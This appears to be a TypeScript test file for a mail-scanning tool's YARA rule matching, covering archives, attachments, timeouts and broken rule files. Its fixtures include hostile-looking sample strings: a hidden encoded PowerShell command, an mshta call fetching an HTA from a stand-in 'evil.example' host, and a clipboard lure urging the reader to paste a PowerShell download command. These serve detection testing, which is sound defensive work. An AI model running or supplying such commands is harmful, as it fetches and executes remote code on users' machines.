/** YARA: the operator's rules and our own few name what they match, where it stands, and when they could not. */
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { askingFor } from '../../src/app/asking.ts';
import { machineForMail } from '../../src/app/machine/archives.ts';
import { ruleReader } from '../../src/app/machine/rules.ts';
import { sha256 } from '../../src/app/machine/sha256.ts';
import { examineHere } from '../../src/app/safely.ts';
import { ruleBorder } from '../../src/examine/observe/border.ts';
import { Opener } from '../../src/unpack/open.ts';
import { makeZip } from '../unpack/containers.ts';

const folder = mkdtempSync(join(tmpdir(), 'rules-'));
after(() => rmSync(folder, { recursive: true }));
writeFileSync(
  join(folder, 'own.yar'),
  'rule order { meta: description = "an order" strings: $a = "order form" condition: $a }\nrule order_size { condition: filesize == 3 }\n',
);

const matched = (bytes: Uint8Array, name = 'file') => {
  const opener = new Opener(sha256, machineForMail(ruleReader([folder])));
  const { signs } = opener.open({ name, bytes, sha256: sha256(bytes) });
  return signs.filter(({ kind }) => kind === 'rule').map(({ says, in: index, range }) => ({ says, index, range }));
};

test('a rule that matches is named with the file and the bytes, inside of archives too', () => {
  const zip = makeZip([
    { name: 'a.txt', data: 'nothing here' },
    { name: 'b.txt', data: 'this is an order form' },
  ]);
  assert.deepEqual(matched(zip), [{ says: 'own.yar:order: an order', index: 1, range: [11, 21] }]);
  assert.deepEqual(matched(Buffer.from('abc')), [{ says: 'own.yar:order_size', index: undefined, range: undefined }]);
});

test('our own rules speak of what they are for, and of nothing else', () => {
  const says = (text: string) => matched(Buffer.from(text)).map((one) => one.says.split(':')[1]);
  assert.deepEqual(says(`powershell -w hidden -enc ${'QUJD'.repeat(20)}`), ['hidden_powershell']);
  assert.deepEqual(says('cmd /c mshta https://evil.example/a.hta'), ['fetched_by_windows_itself']);
  assert.deepEqual(
    says('<script>navigator.clipboard.writeText("powershell iwr x")</script>Press Windows key + R, then Ctrl + V'),
    ['asks_the_reader_to_run'],
  );
  assert.deepEqual(says('To learn PowerShell, press the Windows key and type powershell.'), []);
  assert.deepEqual(says('mshta.exe is a program of Windows; see https://learn.example/mshta'), []);
});

test('every file of a mail is matched, pictures and unknown ones too', async () => {
  const asking = await askingFor({ level: 'none', yara: [folder] });
  const bytes = Buffer.from(
    `From: a@example.com\r\nContent-Type: application/octet-stream; name="a.bin"\r\nContent-Disposition: attachment; filename="a.bin"\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.from('\x01\x02 order form').toString('base64')}\r\n`,
  );
  const { facts, findings } = await examineHere({ source: '-', bytes }, ruleBorder, asking);
  assert.deepEqual(
    facts.attachments[0]?.value.signs?.map(({ kind, range }) => [kind, range]),
    [['rule', [3, 13]]],
  );
  assert.ok(findings.some(({ detector }) => detector === 'rule-match'));
});

test('rules that take too long leave a mail that says so', () => {
  const reader = ruleReader([folder], 0);
  assert.deepEqual(reader(Buffer.from('order form')), { hits: [], stop: 'time' });
});

test('a rule that cannot be compiled is refused before the first mail, with its file and its line', async () => {
  const broken = join(folder, 'broken.rule');
  writeFileSync(broken, 'rule x {\n  strings: $a = \n}');
  await assert.rejects(askingFor({ level: 'none', yara: [broken] }), /METSUKE_RULES_FILE|broken\.rule/);
  await assert.rejects(askingFor({ level: 'none', yara: [join(folder, 'gone')] }), { code: 'METSUKE_RULES_FILE' });
});
